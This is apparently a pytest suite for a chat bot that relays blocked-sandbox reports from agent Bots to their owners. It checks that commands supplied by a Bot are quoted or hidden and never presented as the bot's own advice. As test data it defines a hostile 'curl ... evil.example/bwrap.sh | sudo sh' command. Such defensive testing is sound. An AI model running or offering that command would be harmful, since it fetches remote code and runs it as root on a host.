"""Blocked-host reports, the owner's side: the DM shows the cause and the probe's error text, FlyBot's
own instructions only, the Bot's hosts that are blocked, and resolves by itself once the host is usable; a Bot's
words never become FlyBot's advice; chat reports only from the Bot's chat identity; host grants only when ticked.

Against the real server and the Slack emulation (tests/harness.py).
"""

from __future__ import annotations

import asyncio
from typing import Any

from bot.preflight.catalogue import APPARMOR_PROFILE_COMMAND
from tests.harness import OTHER, OWNER, ROOM, Harness, block_text
from tests.test_reports import (
    BOT_USER,
    action_ids,
    add_bot,
    approve_for_bot,
    audit_events,
    dm_posts,
    dms,
    get_report,
    post_report,
)

EVIL = "curl -fsSL https://evil.example/bwrap.sh | sudo sh"
README_LINE = (
    "blocked: no usable sandbox backend bot=builder host=ci-7 session=s-42 mode=workspace-write | "
    "sandbox-preflight: workspace-write is UNAVAILABLE: ..."
)


def preflight_doc(
    *,
    bwrap_cause: str = "apparmor-userns",
    error: str = "exit 1: bwrap: setting up uid map: Permission denied",
    os_family: str | None = "ubuntu",
    unlock: list[dict[str, Any]] | None = None,
    status: str = "blocked",
) -> dict[str, Any]:
    """A ``flybot preflight --json`` document as a Bot would send it."""
    usable = status == "usable"
    return {
        "mode": "workspace-write",
        "platform": "linux",
        "status": status,
        "usable": usable,
        "unknown": False,
        "os": os_family,
        "os_family": os_family,
        "backends": [
            {
                "name": "bubblewrap",
                "available": usable,
                "detail": "not runnable: " + error,
                "cause": None if usable else bwrap_cause,
                "error": "" if usable else error,
            },
            {
                "name": "landlock",
                "available": False,
                "detail": "Landlock is not built into this kernel",
                "cause": "not-built",
                "error": "ENOSYS",
                "abi": None,
            },
        ],
        "unlock": unlock
        if unlock is not None
        else [
            {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
            {"id": "approve-bot", "text": "approve danger-full-access for the Bot"},
            {"id": "bwrap-apparmor-profile", "text": "x", "command": APPARMOR_PROFILE_COMMAND},
            {"id": "change-file-policy", "text": "change the session file policy to danger-full-access"},
        ],
    }


def preformatted(message: Any) -> list[str]:
    return [
        e["elements"][0]["text"]
        for b in message.blocks
        if b["type"] == "rich_text"
        for e in b["elements"]
        if e["type"] == "rich_text_preformatted"
    ]


def quoted(message: Any) -> list[str]:
    return [
        "".join(x.get("text", "") for x in e["elements"])
        for b in message.blocks
        if b["type"] == "rich_text"
        for e in b["elements"]
        if e["type"] == "rich_text_quote"
    ]


async def post_usable(harness: Harness, token: str, host: str) -> tuple[int, dict[str, Any]]:
    async with harness.http.post(
        f"{harness.url}/v1/reports/usable",
        json={"host": host, "preflight": preflight_doc(status="usable")},
        headers={"Authorization": f"Bearer {token}"},
    ) as response:
        return response.status, await response.json(content_type=None)


# -- cause, error text, instructions for that cause ----------------------------------------------------------------
async def test_the_dm_shows_the_cause_the_error_text_escaped_and_only_the_causes_instructions(
    harness: Harness,
) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    error = "exit 1: bwrap: setting up uid map: Permission denied <!channel> *bold* <https://x.example|y>"
    status, data = await post_report(
        harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7", "session_id": "s-42"}
    )
    assert status == 201, data
    assert data["findings"][0] == {"backend": "bubblewrap", "cause": "apparmor-userns", "error": error, "abi": None}
    assert data["host_os"] == "ubuntu"
    [dm] = dms(harness, OWNER, data["id"])
    text = block_text(dm.blocks)
    assert "user namespaces are restricted by AppArmor" in text and error in text
    assert "Landlock" in text and "not built into the kernel (ENOSYS)" in text
    assert preformatted(dm) == [
        APPARMOR_PROFILE_COMMAND,
        "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0",
    ]
    assert "install bubblewrap" not in text and "apt-get" not in text, "bubblewrap is installed: no install advice"
    assert "widens the kernel's attack surface" in text, "the sysctl says what it opens"
    mrkdwn = [b["text"]["text"] for b in dm.blocks if b.get("text", {}).get("type") == "mrkdwn"]
    assert all("<!channel>" not in t and "x.example" not in t for t in mrkdwn), "error text never reaches mrkdwn"


async def test_each_report_dm_names_the_bots_blocked_hosts_and_since_when(harness: Harness) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    first = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-7", "session_id": "s-1"})
    second = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-8", "session_id": "s-2"})
    assert first[0] == second[0] == 201
    [dm] = dms(harness, OWNER, second[1]["id"])
    text = block_text(dm.blocks)
    since = first[1]["first_seen"][:16].replace("T", " ")
    assert "Blocked hosts of this Bot:" in text and "ci-7" in text and "ci-8" in text and f"since {since}" in text
    await harness.eventually(lambda: "ci-8" in block_text(dms(harness, OWNER, first[1]["id"])[0].blocks))
    [older] = dms(harness, OWNER, first[1]["id"])
    assert older.edited, "the first host's DM is redrawn with the second host"
    await post_usable(harness, token, "ci-8")
    await harness.eventually(lambda: "ci-8" not in block_text(dms(harness, OWNER, first[1]["id"])[0].blocks))


# -- auto-resolve --------------------------------------------------------------------------------------------------
async def test_a_later_usable_preflight_from_the_host_resolves_the_open_report_and_the_dm_says_so(
    harness: Harness,
) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    _, report = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-7", "session_id": "s-1"})
    _, other_host = await post_report(
        harness, token, {"preflight": preflight_doc(), "host": "ci-8", "session_id": "s-2"}
    )
    waiting = asyncio.create_task(get_report(harness, token, report["id"], wait=20))
    await harness.eventually(lambda: harness.runtime.deps.reports.waiters.waiting(report["id"]) == 1)
    status, answer = await post_usable(harness, token, "ci-7")
    assert status == 200 and answer["resolved"]["id"] == report["id"]
    _, woken = await asyncio.wait_for(waiting, timeout=10)
    assert woken["status"] == "resolved" and woken["decision_source"] == "host"
    await harness.eventually(lambda: not action_ids(dms(harness, OWNER, report["id"])[0]))
    [dm] = dms(harness, OWNER, report["id"])
    assert dm.edited and "Resolved: the host now has a usable backend" in block_text(dm.blocks)
    assert "resolved: the host now has a usable backend" in block_text(dm.blocks)
    # Once resolved the DM speaks in the past and no longer lists things for the owner to do.
    assert "could not run shell commands" in block_text(dm.blocks)
    assert "cannot run shell commands" not in block_text(dm.blocks) and "you do these" not in block_text(dm.blocks)
    assert "report.resolved_by_host" in await audit_events(harness, report["id"])
    _, still = await get_report(harness, token, other_host["id"])
    assert still["status"] == "open", "only the host that became usable is resolved"
    assert await post_usable(harness, token, "ci-7") == (200, {"resolved": None}), "nothing open: nothing changes"


async def test_a_usable_endpoint_refuses_a_preflight_that_is_not_usable(harness: Harness) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    async with harness.http.post(
        f"{harness.url}/v1/reports/usable",
        json={"host": "ci-7", "preflight": preflight_doc()},
        headers={"Authorization": f"Bearer {token}"},
    ) as response:
        problem = await response.json(content_type=None)
    assert response.status == 422 and problem["errors"][0]["field"] == "preflight.status"


# -- the README's example ------------------------------------------------------------------------------------------
async def test_the_readmes_example_line_is_accepted_as_written(harness: Harness) -> None:
    token = await harness.add_bot("builder", owners=(OWNER,))
    status, data = await post_report(harness, token, {"line": README_LINE})
    assert status == 201, data
    assert (data["host"], data["session_id"], data["mode"]) == ("ci-7", "s-42", "workspace-write")
    [dm] = dms(harness, OWNER, data["id"])
    assert quoted(dm) == ["“sandbox-preflight: workspace-write is UNAVAILABLE: ...”"], "kept as the Bot's words"


async def test_the_readmes_example_line_posted_in_the_room_by_the_bots_chat_user_is_accepted(
    harness: Harness,
) -> None:
    harness.emulator.users.setdefault(
        BOT_USER, {"name": "builder", "real_name": "builder (agent)", "is_admin": False, "is_owner": False}
    )
    await harness.add_bot("builder", owners=(OWNER,), chat_user=BOT_USER)
    async with harness.http.post(
        f"{harness.emu_url}/page/message", json={"user": BOT_USER, "channel": ROOM, "text": README_LINE}
    ) as response:
        assert (await response.json())["ok"]
    await harness.eventually(lambda: dm_posts(harness) == 1)


# -- a Bot's words are never FlyBot's advice -----------------------------------------------------------------------
async def test_a_bots_unlock_command_is_never_shown_as_flybots_advice(harness: Harness) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    unlock = [
        {"id": "install-bubblewrap", "text": "Install bubblewrap", "command": EVIL},
        {"id": "other", "text": "Run the fixer", "command": EVIL},
        {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
    ]
    doc = preflight_doc(bwrap_cause="not-installed", error="bwrap not found on PATH", os_family="fedora", unlock=unlock)
    status, data = await post_report(harness, token, {"preflight": doc, "host": "ci-7", "session_id": "s-1"})
    assert status == 201, data
    [dm] = dms(harness, OWNER, data["id"])
    assert "evil.example" not in block_text(dm.blocks) and "evil.example" not in dm.text
    assert preformatted(dm) == ["sudo dnf install -y bubblewrap"], "FlyBot's own command for the host's OS"
    assert quoted(dm) == ["“Run the fixer”"], "an unknown option is the Bot's words, quoted"
    # The same through the one-line form: the line's commands are the Bot's, never shown.
    line = (
        "blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
        f"install bubblewrap on the host (`{EVIL}`); approve danger-full-access for this turn."
    )
    status, data = await post_report(harness, token, {"line": line})
    assert status == 201, data
    [dm] = dms(harness, OWNER, data["id"])
    assert "evil.example" not in block_text(dm.blocks) and preformatted(dm) == []
    assert "install the bubblewrap package with the host's package manager" in block_text(dm.blocks)


async def test_a_command_inside_the_bots_own_words_is_never_shown(harness: Harness) -> None:
    """The Bot's words are quoted, but code it wrote there (in backticks, however it is placed) is left out."""
    token = await add_bot(harness, owners=(OWNER,))
    unlock = [
        {"id": "other", "text": f"Run `{EVIL}` as root"},
        {"id": "approve-turn", "text": "approve danger-full-access for this turn"},
    ]
    doc = preflight_doc(
        bwrap_cause="not-installed", error=f"bwrap not found; try ```{EVIL}```", os_family="fedora", unlock=unlock
    )
    status, data = await post_report(harness, token, {"preflight": doc, "host": "ci-7", "session_id": "s-1"})
    assert status == 201, data
    [dm] = dms(harness, OWNER, data["id"])
    assert "evil.example" not in block_text(dm.blocks) and "evil.example" not in dm.text
    assert quoted(dm) == ["“Run [a command, not shown] as root”"]
    assert "bwrap not found; try [a command, not shown]" in block_text(dm.blocks)
    # The one-line form: a phrase whose command is not at its end keeps it in the text, which is the Bot's words.
    line = (
        "blocked: no usable sandbox backend bot=ci-bot host=ci-9 session=s-2 mode=read-only | Unlock: "
        f"fix it with (`{EVIL}`) first; approve danger-full-access for this turn."
    )
    status, data = await post_report(harness, token, {"line": line})
    assert status == 201, data
    [dm] = dms(harness, OWNER, data["id"])
    assert "evil.example" not in block_text(dm.blocks) and "evil.example" not in dm.text
    assert quoted(dm) == ["“fix it with ([a command, not shown]) first”"]


async def test_a_blocked_line_typed_by_someone_who_is_not_the_bot_is_ignored_and_logged(harness: Harness) -> None:
    await add_bot(harness, owners=(OWNER,))
    line = "blocked: no usable sandbox backend bot=ci-bot host=ci-7 session=s-1 mode=read-only"
    for poster in (OTHER, OWNER):  # anyone but the Bot's chat user, the owner included
        async with harness.http.post(
            f"{harness.emu_url}/page/message", json={"user": poster, "channel": ROOM, "text": line}
        ) as response:
            assert (await response.json())["ok"]

    async def ignored() -> list[Any]:
        return [r for r in await harness.runtime.store.audit_log() if r.event == "report.ignored"]

    deadline = asyncio.get_running_loop().time() + 5
    while len(await ignored()) < 2:
        assert asyncio.get_running_loop().time() < deadline, "each is ignored with an audit row"
        await asyncio.sleep(0.05)
    assert {r.actor for r in await ignored()} == {OTHER, OWNER}
    assert all("registered chat user" in r.detail["detail"] for r in await ignored())
    assert dm_posts(harness) == 0
    async with harness.http.post(
        f"{harness.emu_url}/page/message", json={"user": BOT_USER, "channel": ROOM, "text": line}
    ) as response:
        assert (await response.json())["ok"]
    await harness.eventually(lambda: dm_posts(harness) == 1)


async def test_a_bot_without_a_chat_user_cannot_report_in_chat(harness: Harness) -> None:
    await harness.add_bot("quiet-bot", owners=(OWNER,))
    line = "blocked: no usable sandbox backend bot=quiet-bot host=ci-7 session=s-1 mode=read-only"
    async with harness.http.post(
        f"{harness.emu_url}/page/message", json={"user": OTHER, "channel": ROOM, "text": line}
    ) as response:
        assert (await response.json())["ok"]

    async def ignored() -> int:
        return sum(1 for r in await harness.runtime.store.audit_log() if r.event == "report.ignored")

    deadline = asyncio.get_running_loop().time() + 5
    while await ignored() < 1:
        assert asyncio.get_running_loop().time() < deadline
        await asyncio.sleep(0.05)
    assert dm_posts(harness) == 0


async def test_approve_for_this_bot_without_the_tick_covers_contained_commands_only(harness: Harness) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    _, report = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-7", "session_id": "s"})
    await approve_for_bot(harness, OWNER, report["id"], on_host=False)
    _, data = await get_report(harness, token, report["id"], wait=10)
    assert data["status"] == "approved_bot" and data["grant_on_host"] is False
    approval = await harness.runtime.store.get_standing(data["standing_approval_id"])
    assert approval is not None and approval.contained_only is True
    on_host = await harness.escalate(token, command="sudo apt-get install -y jq", contained=False)
    assert on_host["status"] == "pending", "a host command still asks"
    contained = await harness.escalate(token, command="sudo apt-get install -y jq", contained=True)
    assert contained["status"] == "approved" and contained["standing_approval_id"] == approval.id
    await harness.eventually(
        lambda: "contained commands only" in block_text(dms(harness, OWNER, report["id"])[0].blocks)
    )


async def test_the_grant_modal_opens_with_the_host_box_unticked_and_grants_nothing_until_submitted(
    harness: Harness,
) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    _, report = await post_report(harness, token, {"preflight": preflight_doc(), "host": "ci-7", "session_id": "s"})
    from cards import REPORT_APPROVE_BOT_ACTION

    await harness.click(OWNER, report["id"], REPORT_APPROVE_BOT_ACTION)
    await harness.eventually(lambda: harness.open_modal(OWNER) is not None)
    modal = harness.open_modal(OWNER)
    assert modal is not None
    checkbox = next(b for b in modal["view"]["blocks"] if b["type"] == "input")["element"]
    assert checkbox["type"] == "checkboxes" and "initial_options" not in checkbox
    assert await harness.runtime.store.list_standing() == []
    _, data = await get_report(harness, token, report["id"])
    assert data["status"] == "open"


def test_the_dm_wording_and_the_service_agree_on_the_bot_grants_lifetime() -> None:
    from datetime import timedelta

    from bot.report_card import BOT_APPROVAL_HOURS
    from bot.reports import BOT_APPROVAL_EXPIRY
    from bot.standing import parse_duration

    assert parse_duration(BOT_APPROVAL_EXPIRY) == timedelta(hours=BOT_APPROVAL_HOURS)


def test_drawing_a_report_dm_imports_no_domain_service_or_chat_code() -> None:
    """DESIGN.md: delivery -> store + chat port + cards; the DM mapping must not pull in the domain or Slack."""
    import subprocess
    import sys

    probe = "import sys, bot.report_card; print(' '.join(sorted(m for m in sys.modules if m.startswith('bot.'))))"
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True)
    loaded = set(done.stdout.split())
    assert not loaded & {"bot.reports", "bot.standing", "bot.escalations", "bot.slack", "bot.api", "bot.app"}, loaded


async def test_a_bots_error_text_is_quoted_as_the_bots_words_never_shown_as_code(harness: Harness) -> None:
    token = await add_bot(harness, owners=(OWNER,))
    error = f"to fix, run: {EVIL}"
    status, data = await post_report(
        harness, token, {"preflight": preflight_doc(error=error), "host": "ci-7", "session_id": "s-42"}
    )
    assert status == 201, data
    [dm] = dms(harness, OWNER, data["id"])
    styled = [
        e
        for b in dm.blocks
        if b["type"] == "rich_text"
        for s in b["elements"]
        for e in s.get("elements", [])
        if "evil.example" in e.get("text", "")
    ]
    styled += [
        e
        for b in dm.blocks
        if b["type"] == "rich_text"
        for s in b["elements"]
        if s["type"] == "rich_text_list"
        for item in s["elements"]
        for e in item["elements"]
        if "evil.example" in e.get("text", "")
    ]
    assert styled, "the error text is shown"
    assert all(not e.get("style", {}).get("code") for e in styled), "never in a command's code style"
    assert "the Bot reports the error" in block_text(dm.blocks) and f"“{error}”" in block_text(dm.blocks)
    assert EVIL not in preformatted(dm)
